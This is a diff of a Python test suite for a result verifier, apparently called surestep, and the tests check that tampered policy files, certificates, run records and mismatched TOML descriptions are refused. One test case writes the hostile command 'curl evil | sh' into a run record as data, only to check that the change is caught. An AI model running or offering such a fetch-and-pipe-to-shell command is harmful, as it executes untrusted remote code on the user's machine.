@@ -6,8 +6,10 @@ import io
 import json
 import re
 import shutil
+from dataclasses import replace
 
 import duckdb
+import msgspec
 import numpy as np
 import pytest
 from hypothesis import given, settings
@@ -235,8 +237,9 @@ def drafted_once(monkeypatch):
 @pytest.mark.parametrize(
     ("change", "message"),
     [
-        (cell_changed(1, "visits", lambda n: int(n) + 1), r"policy\.csv: 2 was .*, is "),
-        (cell_changed(1, "q", lambda q: q + 1e-6), r"policy\.csv: 2 was .*, is "),
+        (cell_changed(1, "visits", lambda n: int(n) + 1), r"policy\.csv: 0: visits was .*, is "),
+        (cell_changed(1, "q", lambda q: q + 1e-6), r"policy\.csv: 0: q was .*, is "),
+        (cell_changed(0, "place", "site"), "expected columns of labels, and these: probability"),
         (cell_changed(1, "q", "nan"), "column q holds what is no number"),
         (certificate_changed(5.0), r"certificate\.json: lower was "),
         (certificate_changed(1e-6), r"certificate\.json: lower was "),
@@ -244,11 +247,11 @@ def drafted_once(monkeypatch):
         (other_claim(3, "n_wedge", 11), "certificates.json: 3: parameters: n_wedge was 11, is 12"),
         (claim_left_out, r"certificates\.json was .*, is "),
         (only_one_file, r"certificate\.json is not the first of certificates\.json"),
-        (parquet_changed, r"policy\.parquet: [0-9]+: [0-9]+ was "),
+        (parquet_changed, r"policy\.parquet: 0: probability was "),
         (record_changed("parameters", "discount", value=0.8), "discount was 0.8, is 0.9"),
         (record_changed("data", "rows", value=10**6), "run.json: data: rows was 1000000, is"),
         (record_changed("command", value="curl evil | sh"), "run.json: command was 'curl evil"),
-        (report_changed("estimated", "guaranteed"), r"report\.html: [0-9]+ was .*, is "),
+        (report_changed("estimated", "guaranteed"), r"report\.html: [0-9]+: 0 was .*, is "),
         (record_changed("counts_sha256", value="0" * 64), "does not have the counts"),
         (
             record_changed("description", "behavior", value={"policy": "uniform"}),
@@ -305,7 +308,11 @@ def test_another_behavior_is_refused(home, tmp_path):
     for row in same:
         row["probability"] = 0.9 * row["probability"] + 0.1 * (row is mixed)
     path = write_table(tmp_path / "other.csv", other, tuple(other[0]))
-    assert refuted(home / "of table", home / "log.csv", behavior=path)
+    with pytest.raises(ResultMismatch, match=r"behavior\.policy: your other\.csv is not the file"):
+        verify_result(home / "of table", home / "log.csv", behavior=path)
+    turned = write_table(tmp_path / "turned.csv", TABLE[::-1], tuple(TABLE[0]))
+    again = verify_result(home / "of table", home / "log.csv", behavior=turned)
+    assert again.level == "same values"  # the same table, in other bytes
     with pytest.raises(ResultMismatch, match=r"was 'table' .*, and is 'estimate' now"):
         verify_result(home / "of table", home / "log.csv", behavior="estimate")
 
@@ -334,6 +341,111 @@ def test_what_is_no_result_is_refused(home, tmp_path):
         verify_result(tmp_path, home / "log.csv")
     with pytest.raises(InvalidParameter, match="path is of type int"):
         verify_result(7, home / "log.csv")
+
+
+SAID = """
+files = "log.csv"
+columns = {state = ["place", "level"], action = "move", reward = "reward", episode = "episode"}
+reader.delim = ","
+behavior = {policy = "estimate", logger = "adaptive"}
+stakes = {discount = 0.9, unit = "per episode"}
+method = {n_wedge = 12, delta = 0.1, worlds = 0, least_visits = 10, unseen = "pessimistic"}
+"""
+
+
+def described_in(home, text, name="mine.toml"):
+    (home / name).write_text(text)
+    return home / name
+
+
+def test_what_a_description_says_is_compared_with_what_was_used(home, of_log):
+    found = verify_result(of_log, described_in(home, SAID))
+    assert found.confirmed
+    assert {"files", "reader.delim", "stakes.discount", "method.delta"} <= {*found.compared}
+    chosen = shutil.copytree(home / "of log", of_log.parent / "chosen")
+    changed_record(chosen, lambda record: record["description"]["method"].pop("n_wedge"))
+    changed_record(chosen, lambda record: record["defaults"].append("n_wedge"))
+    with pytest.raises(ResultMismatch, match=r"n_wedge: your description says 12, .* with 'auto'"):
+        verify_result(chosen, home / "mine.toml")
+
+
+@pytest.mark.parametrize(
+    ("key", "message"),
+    [
+        ("stakes.discount = 0.8", r"discount: your description says 0\.8, .* made with 0\.9"),
+        ("stakes.unit = '€'", "unit: your description says '€', .* made with 'per episode'"),
+        ("stakes.running = [0, 1]", r"says \[0\.0, 1\.0\], .* made with 'as seen in the log"),
+        ("columns.reward = 'step'", "says 'step', the result was made with 'reward'"),
+        ("columns.time = 'step'", "says 'step', the result was made without it"),
+        ("method.delta = 0.05", r"says 0\.05, the result was made with 0\.1"),
+        ("method.n_wedge = 'auto'", "says 'auto', the result was made with 12"),
+        ("method.algorithm = 'rmin'", "says 'rmin', the result was made with 'spibb'"),
+        ("method.certificates = 'robust'", "says 'robust', the result was made with \\['stitched'"),
+        ("behavior.logger = 'fixed'", "says 'fixed', the result was made with 'adaptive'"),
+        ("bins.level.width = 2", "says 2.0, the result was made without it"),
+        ("query = 'FROM log'", "query: your description says 'FROM log', .* made without it"),
+        ("names.move = { a = 'b', b = 'a' }", "names.move.a: your description says 'b', "),
+        ("unsafe.states = 'level > 3'", "unsafe.states: your description says 'level > 3', "),
+        ("signals.cash.column = 'reward'", "signals.cash.column: your description says 'reward'"),
+    ],
+)
+def test_a_description_that_says_another_thing_is_refused(key, message, home, of_log, tmp_path):
+    log = described_in(tmp_path, f"files = '{home / 'log.csv'}'\n{key}\n")
+    with pytest.raises(ResultMismatch, match=message):
+        verify_result(of_log, log)
+
+
+def test_the_sign_of_a_signal_and_the_worlds_that_time_allowed_are_understood(home, of_log):
+    cost = {"cash": {"column": "reward", "cost": True}}
+    changed_record(of_log, lambda record: record["description"].update(signals=cost))
+    log = described_in(home, "files = 'log.csv'\nsignals.cash.column = 'reward'\n")
+    with pytest.raises(ResultMismatch, match=r"cash\.cost: your description says False, .* True"):
+        verify_result(of_log, log)
+    record = surestep.load(of_log).record
+    said = described({"method": {"worlds": 7}})
+    with pytest.raises(ResultMismatch, match="worlds: your description says 7"):
+        verify.check_said(record, said)
+    limited = msgspec.structs.replace(record.parameters, time_limit=1)
+    assert verify.check_said(replace(record, parameters=limited), said) == ("method.worlds",)
+
+
+@pytest.mark.parametrize(
+    ("before", "after"),
+    [("4006381333948", "4006381333949"), ("7.25", "7.2500000001")],
+)
+@pytest.mark.parametrize("files", ["policy.csv", "policy.parquet", "report.html"])
+def test_labels_are_no_numbers(before, after, files, labelled, tmp_path):
+    folder = shutil.copytree(labelled / "out", tmp_path / "out")
+    elsewhere(folder)
+    if files == "policy.parquet":
+        target = tmp_path / "forged.parquet"
+        named = f"replace(action, '{before}', '{after}') AS action"
+        source = folder / "policy.parquet"
+        duckdb.execute(f"COPY (SELECT * REPLACE ({named}) FROM '{source}') TO '{target}'")
+        forged(folder, files, target.read_bytes())
+    else:
+        text = (folder / files).read_bytes()
+        assert before.encode() in text
+        forged(folder, files, text.replace(before.encode(), after.encode()))
+    told = refuted(folder, labelled / "log.csv")
+    assert files in told
+    assert after[:8] in told
+
+
+@pytest.fixture(scope="module")
+def labelled(tmp_path_factory):
+    """A result whose actions are called by numbers."""
+    home = tmp_path_factory.mktemp("labelled")
+    rng = np.random.default_rng(1)
+    actions = ("4006381333948", "4006381333931", "7.25")
+    lines = ["state,action,reward,next_state"]
+    for _ in range(300):
+        state, action, after = rng.integers((2, 3, 2))
+        lines.append(f"{'xy'[state]},{actions[action]},{int(2 * state == action)},{'xy'[after]}")
+    (home / "log.csv").write_text("\n".join(lines) + "\n")
+    terms = {"discount": 0.9, "n_wedge": 3, "certificates": ["a-priori"], "worlds": 0}
+    surestep.improve(home / "log.csv", **terms).save(home / "out")
+    return home
 
 
 LEARNT = {"bins": {"condition": {"tree": 3, "columns": ["x"]}}, "discount": 0.9, "worlds": 0}
@@ -522,6 +634,18 @@ def honest_copies(folder):
     BlockFolder(folder / "stress-test").write("finished", "made by", files)
     for name in ("report.html", "policy.csv"):
         (folder / name).write_bytes((folder / name).read_bytes().replace(b"0", b"1"))
+
+
+def test_what_is_no_result_is_refused_before_it_is_unpacked(light, tmp_path, monkeypatch):
+    folder = shutil.copytree(light / "result", tmp_path / "out")
+    (folder / "stress-test").mkdir()
+    (folder / "stress-test" / "finished.npz").write_bytes(b"damaged")
+    with monkeypatch.context() as patched:
+        patched.setattr(np, "load", None)
+        with pytest.raises(ResultMismatch, match="left the folder stress-test behind"):
+            verify_result(folder, light / "log.csv")
+    assert surestep.load(folder).certificates  # which reads the others
+    assert (folder / "stress-test" / "finished.npz").read_bytes() == b"damaged"
 
 
 def added(name):
